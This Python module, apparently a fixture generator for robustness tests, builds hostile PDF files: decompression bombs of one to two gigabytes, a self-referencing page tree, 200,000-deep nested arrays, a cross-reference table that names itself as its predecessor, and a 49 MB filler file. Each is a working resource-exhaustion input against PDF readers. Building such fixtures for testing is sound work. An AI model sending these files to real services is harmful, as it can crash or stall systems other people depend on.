"""Files that look like a PDF and are made to exhaust or confuse whoever reads them."""

from zlib import compress


def bomb(size: int = 2**31) -> bytes:
    """A few hundred kilobytes whose cross-reference stream unpacks to two gigabytes."""
    zeros = compress(b"\0" * 2**20, 9)
    packed = compress(compress(b"\0" * 2**26, 9) * (size // 2**26), 9) if size > 2**28 else zeros
    head = b"%PDF-1.7\n"
    body = b"1 0 obj\n<</Type/XRef/Size 5/W[1 4 2]/Root 2 0 R/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(packed)
    return head + body + packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def wide_bomb() -> bytes:
    """An honest cross-reference table, and a page tree whose contents unpack to a gigabyte, many times over."""
    return _plain_pdf(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/SigFlags 3>>/Names<</EmbeddedFiles<</Names[(statement.json)5 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
        _stream(compress(b"\0" * 2**28, 9) + b"", b"/Filter/FlateDecode"),
        b"<</EF<</F 4 0 R>>>>",
    )


def round_and_round() -> bytes:
    """A page tree that holds itself."""
    return _plain_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>")


def deep() -> bytes:
    """Arrays within arrays without end."""
    return _plain_pdf(b"<</Type/Catalog/Pages 2 0 R/Deep " + b"[" * 200_000 + b"]" * 200_000 + b">>", b"<</Type/Pages/Kids[]/Count 0>>")


def previous_forever() -> bytes:
    """A cross-reference table that names itself as the one before."""
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    table = b"xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<</Size 2/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return head + table % (len(head), len(head))


def huge() -> bytes:
    """Forty-nine megabytes of objects nobody needs."""
    filler = b"<</A[" + b"(0123456789)" * 4_000 + b"]>>"
    return _plain_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>", *[filler] * 1_000
    )


def _stream(data: bytes, extra: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (extra, len(data), data)


def _plain_pdf(*objects: bytes) -> bytes:
    out, places = b"%PDF-1.7\n", []
    parts = [out]
    at = len(out)
    for number, body in enumerate(objects, 1):
        places.append(at)
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        at += len(parts[-1])
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return b"".join(parts) + table + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, at)
